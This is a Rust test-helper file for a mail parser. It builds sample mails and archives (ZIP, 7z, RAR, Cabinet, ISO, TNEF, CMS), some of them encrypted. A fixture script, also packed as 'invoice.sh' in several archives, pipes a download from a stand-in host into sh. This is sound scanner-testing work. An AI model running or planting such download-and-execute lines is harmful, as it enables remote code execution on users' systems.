//! Mails and files the parser tests build.
#![allow(dead_code)] // each test binary uses its part

use hinomi_mail::parse::{Analysis, FileFound, Limits, analyse, analyse_file};
use std::io::Write;

pub fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in files {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).expect("start");
        writer.write_all(content).expect("write");
    }
    writer.finish().expect("finish").into_inner()
}

pub fn base64_lines(bytes: &[u8]) -> String {
    use base64::Engine;
    let text = base64::engine::general_purpose::STANDARD.encode(bytes);
    text.as_bytes().chunks(76).map(|line| format!("{}\r\n", String::from_utf8_lossy(line))).collect()
}

/// A mail with some text and one attachment.
pub fn mail_with(name: &str, kind: &str, bytes: &[u8]) -> Vec<u8> {
    mail_saying("see HTTP://Example.com:80/Path#x and www.example.org/y, bye", name, kind, bytes)
}

/// The same with a text of its own.
pub fn mail_saying(text: &str, name: &str, kind: &str, bytes: &[u8]) -> Vec<u8> {
    format!(
        "From: =?UTF-8?B?6Y235pyo?= <Boss@Example.COM>\r\nTo: a@example.test\r\nSubject: =?ISO-2022-JP?B?GyRCQEE1YT1xGyhC?=\r\n\
         Message-ID: <m1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n\
         --b\r\nContent-Type: {kind}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}--b--\r\n",
        base64_lines(bytes)
    )
    .into_bytes()
}

pub fn read(raw: impl AsRef<[u8]>) -> Analysis {
    analyse(raw.as_ref(), &Limits::default())
}

pub fn read_file(name: &str, bytes: &[u8]) -> Analysis {
    analyse_file(name, bytes, &Limits::default())
}

pub fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// English sentence why a file was not inspected; empty when it was.
pub fn reason(file: &FileFound) -> &str {
    file.attachment.uninspected.as_ref().map_or("", |one| one.text.en.as_str())
}

/// Code of the same.
pub fn code(file: &FileFound) -> &str {
    file.attachment.uninspected.as_ref().map_or("", |one| one.code.as_str())
}

pub fn paths(found: &Analysis) -> Vec<&str> {
    found.files.iter().map(|file| file.path.as_str()).collect()
}

pub fn urls(found: &Analysis) -> Vec<&str> {
    found.urls.iter().map(|url| url.url.as_str()).collect()
}

pub fn unbase64(text: &str) -> Vec<u8> {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.decode(text).expect("base64")
}

/// What the sample archives hold.
pub const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://stage.example.net/two | sh\n";

/// 7z of `run/invoice.sh` ([`SCRIPT`]), `readme.txt` (`hello`) and `empty.txt`: LZMA2, solid, packed header.
pub fn seven_zip() -> Vec<u8> {
    unbase64(
        "N3q8ryccAATYsm2ftwAAAAAAAAAhAAAAAAAAAFJgqSgBADVoZWxsbyMhL2Jpbi9zaApjdXJsIGh0dHA6Ly9zdGFnZS5leGFtcGxlLm5l\
         dC90d28gfCBzaAoAAACBMweuD9GYLRigkKB3XsVAGI7KoTayju+ECTBH3VU3cUSMQYHB9JAnCSCDVfLP1YKOpeetDTnEwwJ/d0Pw25ca\
         Q3Eo748knixEKs02j+nZltiLEAWxEGFAaQhHS4X6hKiFb2zT6P5JawRepW8+De6riZJMxTrrRbgAAAAXBjoBCX0ABwsBAAEjAwEBBV0A\
         EAAADICqCgGr07MRAAA=",
    )
}

/// The same without `empty.txt`, password `Abc-123`, names readable.
pub fn seven_zip_encrypted() -> Vec<u8> {
    unbase64(
        "N3q8ryccAATy0vA3zQAAAAAAAAAiAAAAAAAAAEiPQQn7+XBM7/GD7DBgn+sA2iql9is3u7BCvcyBBX0L5yuj29DR809hAPplGuXDYg/+\
         dGVRCiduPQwJ6xRCZQEG3UDbAACBMweuD9Hy+/1Au5RkOzmkeudqI0YaZMX8Ft/SMowHo4iYI9eESTZAterqhlTJD99I7bZvHpZoZzfP\
         Kj/J048cTQsTJqDtcO+3kPi/YgdwkTjzQQB2yMxAb+WmkcGI7rTpLBBdqkdbo20WixVFfBLHf3ZeiLoBZ3bAaZlsZcznhkVA9HFPN5e4\
         AAAAFwZAAQmAjQAHCwEAASMDAQEFXQAQAAAMgKYKAWsmUhYAAA==",
    )
}

/// The same with an encrypted header.
pub fn seven_zip_closed() -> Vec<u8> {
    unbase64(
        "N3q8ryccAAQuAMea0AAAAAAAAAA+AAAAAAAAAOnCIR1L/WgkRLIBRzvxM/G856QbVEVxUOo3pAKGm0eUJxRw7JjctxuIZXiu0zOtpQ4q\
         pgIhE7RgqUuu0kqAUKVlEt0Wjs3I3lqkCyAuQHlP8eqJastZ1waB2RSKLx0kWm68+qUxqg3XGQdedeMwDJb/kaT01Iab+ry7ejGVIXGE\
         XcP77B3CT7KnClVsV2qmfadyNjNFXXUn7uhRoUikCKJeiwj3qBuCjHODlWdpGSgSB2/bXuerSOKriER2HSaIKr6wbtpc5qG3VuErIihx\
         4hnsWAPkFwZAAQmAkAAHCwEAAiQG8QcBElMPBvZcZFp+WT7rum0w/hDfoSMDAQEFXQAQAAABAAyAjYCmCgHtPTgIAAA=",
    )
}

/// ZIP with the traditional encryption, password `Abc-123`.
pub fn zip_encrypted() -> Vec<u8> {
    unbase64(
        "UEsDBBQAAQAAAEMmdl2GphA2EQAAAAUAAAAKAAAAcmVhZG1lLnR4dOrN++mnfzIAr388pzCgfzmwUEsDBBQAAQAAAEMmdl3oGooTPQAA\
         ADEAAAAOAAAAcnVuL2ludm9pY2Uuc2h3m/C2heEe3A79inwVd7UF3UYy0yXD16l9mpougt60TF/7KZq/+Zhcxkedw1gyFBTIblIu704u\
         6pNrKJsZUEsBAj8DFAABAAAAQyZ2XYamEDYRAAAABQAAAAoAJAAAAAAAAAAggKSBAAAAAHJlYWRtZS50eHQKACAAAAAAAAEAGACVGbfw\
         PHrdAQAAAAAAAAAAAAAAAAAAAABQSwECPwMUAAEAAABDJnZd6BqKEz0AAAAxAAAADgAkAAAAAAAAACCApIE5AAAAcnVuL2ludm9pY2Uu\
         c2gKACAAAAAAAAEAGACVGbfwPHrdAQAAAAAAAAAAAAAAAAAAAABQSwUGAAAAAAIAAgC8AAAAogAAAAAA",
    )
}

/// Cabinet, MSZIP: `invoice.sh` and `readme.txt`.
pub fn cabinet() -> Vec<u8> {
    unbase64(
        "TVNDRgAAAACjAAAAAAAAACwAAAAAAAAAAwEBAAIAAAAAAAAAYgAAAAEAAQAxAAAAAAAAAAAAdl1CJiAAaW52b2ljZS5zaAAFAAAAMQAA\
         AAAAdl1CJiAAcmVhZG1lLnR4dAAB+tcbOQA2AENLU1bUT8rM0y/O4EouLcpRyCgpKbDS1y8uSUxP1UutSMwtyEnVy0st0S8pz1eoUQAq\
         y0jNyckHAA==",
    )
}

/// One file of a RAR archive to build.
pub struct RarFile<'f> {
    pub name: &'f str,
    pub content: &'f [u8],
    /// Its method says "compressed".
    pub packed: bool,
    pub encrypted: bool,
}

pub fn rar4(files: &[RarFile<'_>]) -> Vec<u8> {
    let mut out = b"Rar!\x1a\x07\x00".to_vec();
    let block = |kind: u8, flags: u16, fields: &[u8]| {
        let mut body = vec![kind];
        body.extend(flags.to_le_bytes());
        body.extend(u16::try_from(7 + fields.len()).expect("short").to_le_bytes());
        body.extend(fields);
        let mut block = u16::try_from(crc32(&body) & 0xffff).expect("16 bits").to_le_bytes().to_vec();
        block.extend(body);
        block
    };
    out.extend(block(0x73, 0, &[0; 6]));
    for file in files {
        let length = u32::try_from(file.content.len()).expect("short").to_le_bytes();
        // a name beyond ASCII goes as UTF-8, which the flag without a zero byte says
        let flags = 0x8000 | if file.encrypted { 4 } else { 0 } | if file.name.is_ascii() { 0 } else { 0x200 };
        let mut fields = Vec::new();
        fields.extend(length);
        fields.extend(length);
        fields.push(3);
        fields.extend(crc32(file.content).to_le_bytes());
        fields.extend([0, 0, 0x76, 0x5d, 29, if file.packed { 0x33 } else { 0x30 }]);
        fields.extend(u16::try_from(file.name.len()).expect("short").to_le_bytes());
        fields.extend([0xa4, 0x81, 0, 0]);
        fields.extend(file.name.as_bytes());
        out.extend(block(0x74, flags, &fields));
        out.extend(file.content);
    }
    out.extend(block(0x7b, 0, &[]));
    out
}

pub fn rar5(files: &[RarFile<'_>]) -> Vec<u8> {
    let mut out = b"Rar!\x1a\x07\x01\x00".to_vec();
    let number = |mut value: usize| {
        let mut out = Vec::new();
        loop {
            let byte = (value & 0x7f) as u8;
            value >>= 7;
            out.push(if value == 0 { byte } else { byte | 0x80 });
            if value == 0 {
                return out;
            }
        }
    };
    let block = |fields: Vec<u8>| {
        let mut sized = number(fields.len());
        sized.extend(fields);
        let mut block = crc32(&sized).to_le_bytes().to_vec();
        block.extend(sized);
        block
    };
    out.extend(block(vec![1, 0, 0]));
    for file in files {
        let mut extra = Vec::new();
        if file.encrypted {
            let record = [vec![1, 0, 0, 15], vec![7; 16], vec![8; 16]].concat();
            extra.extend(number(record.len()));
            extra.extend(record);
        }
        let mut fields = vec![2, if extra.is_empty() { 2 } else { 3 }];
        if !extra.is_empty() {
            fields.extend(number(extra.len()));
        }
        fields.extend(number(file.content.len()));
        fields.push(4);
        fields.extend(number(file.content.len()));
        fields.extend(number(0o100_644));
        fields.extend(crc32(file.content).to_le_bytes());
        fields.extend(number(if file.packed { 3 << 7 } else { 0 }));
        fields.push(1);
        fields.extend(number(file.name.len()));
        fields.extend(file.name.as_bytes());
        fields.extend(extra);
        out.extend(block(fields));
        out.extend(file.content);
    }
    out.extend(block(vec![5, 0, 0]));
    out
}

pub fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

const SECTOR: usize = 2_048;

/// An ISO 9660 image with Joliet names: the files lie in a folder `docs`.
pub fn iso(files: &[(&str, &[u8])]) -> Vec<u8> {
    let (root, docs, content) = (20_usize, 21_usize, 22_usize);
    let wide = |text: &str| -> Vec<u8> { text.encode_utf16().flat_map(u16::to_be_bytes).collect() };
    let record = |sector: usize, bytes: usize, directory: bool, name: &[u8]| {
        let length = (33 + name.len()).next_multiple_of(2);
        let mut record = vec![u8::try_from(length).expect("short"), 0];
        record.extend(u32::try_from(sector).expect("small").to_le_bytes());
        record.extend(u32::try_from(sector).expect("small").to_be_bytes());
        record.extend(u32::try_from(bytes).expect("small").to_le_bytes());
        record.extend(u32::try_from(bytes).expect("small").to_be_bytes());
        record.extend([126, 11, 22, 0, 0, 0, 0, if directory { 2 } else { 0 }, 0, 0, 1, 0, 0, 1]);
        record.push(u8::try_from(name.len()).expect("short"));
        record.extend(name);
        record.resize(length, 0);
        record
    };
    let descriptor = |kind: u8| {
        let mut sector = vec![0; SECTOR];
        sector[0] = kind;
        sector[1..6].copy_from_slice(b"CD001");
        sector[6] = 1;
        if kind == 2 {
            sector[88..91].copy_from_slice(b"%/E");
        }
        let root = record(root, SECTOR, true, &[0]);
        sector[156..156 + root.len()].copy_from_slice(&root);
        sector
    };
    let padded = |mut bytes: Vec<u8>| {
        bytes.resize(bytes.len().next_multiple_of(SECTOR), 0);
        bytes
    };
    let mut image = vec![0; 16 * SECTOR];
    image.extend(descriptor(1));
    image.extend(descriptor(2));
    image.extend(padded([vec![255], b"CD001\x01".to_vec()].concat()));
    image.resize(root * SECTOR, 0);
    let own = |sector: usize| [record(sector, SECTOR, true, &[0]), record(root, SECTOR, true, &[1])].concat();
    image.extend(padded([own(root), record(docs, SECTOR, true, &wide("docs"))].concat()));
    let mut listing = own(docs);
    let mut at = content;
    for (name, bytes) in files {
        listing.extend(record(at, bytes.len(), false, &wide(&format!("{name};1"))));
        at += bytes.len().div_ceil(SECTOR);
    }
    image.extend(padded(listing));
    for (_, bytes) in files {
        image.extend(padded(bytes.to_vec()));
    }
    image
}

/// Attributes of a TNEF stream: level, id, data.
pub fn tnef(attributes: &[(u8, u32, Vec<u8>)]) -> Vec<u8> {
    let mut out = vec![0x78, 0x9f, 0x3e, 0x22, 1, 0];
    for (level, id, data) in attributes {
        out.push(*level);
        out.extend(id.to_le_bytes());
        out.extend(u32::try_from(data.len()).expect("short").to_le_bytes());
        out.extend(data);
        out.extend(data.iter().fold(0_u16, |sum, byte| sum.wrapping_add(u16::from(*byte))).to_le_bytes());
    }
    out
}

/// A list of MAPI properties of variable length: type, id, data.
pub fn properties(list: &[(u16, u16, &[u8])]) -> Vec<u8> {
    let mut out = u32::try_from(list.len()).expect("few").to_le_bytes().to_vec();
    for (kind, id, data) in list {
        out.extend(kind.to_le_bytes());
        out.extend(id.to_le_bytes());
        out.extend(1_u32.to_le_bytes());
        out.extend(u32::try_from(data.len()).expect("short").to_le_bytes());
        out.extend(*data);
        out.resize(out.len() + (data.len().next_multiple_of(4) - data.len()), 0);
    }
    out
}

/// One DER value.
pub fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut out = vec![tag];
    match length {
        0..0x80 => out.push(length as u8),
        0x80..0x1_0000 => out.extend([0x82, (length >> 8) as u8, length as u8]),
        _ => out.extend([0x84, (length >> 24) as u8, (length >> 16) as u8, (length >> 8) as u8, length as u8]),
    }
    out.extend(content);
    out
}

pub const SIGNED_DATA: &[u8] = b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02";
pub const ENVELOPED_DATA: &[u8] = b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03";
pub const COMPRESSED_DATA: &[u8] = b"\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x09";
const DATA: &[u8] = b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01";

/// A CMS content info around `octets`, an encoded octet string.
pub fn cms(kind: &[u8], octets: &[u8]) -> Vec<u8> {
    let algorithms = if kind == SIGNED_DATA { der(0x31, &[]) } else { der(0x30, &[]) };
    let inner = der(0x30, &[der(6, DATA), der(0xa0, octets)].concat());
    let body = der(0x30, &[der(2, &[1]), algorithms, inner].concat());
    der(0x30, &[der(6, kind), der(0xa0, &body)].concat())
}
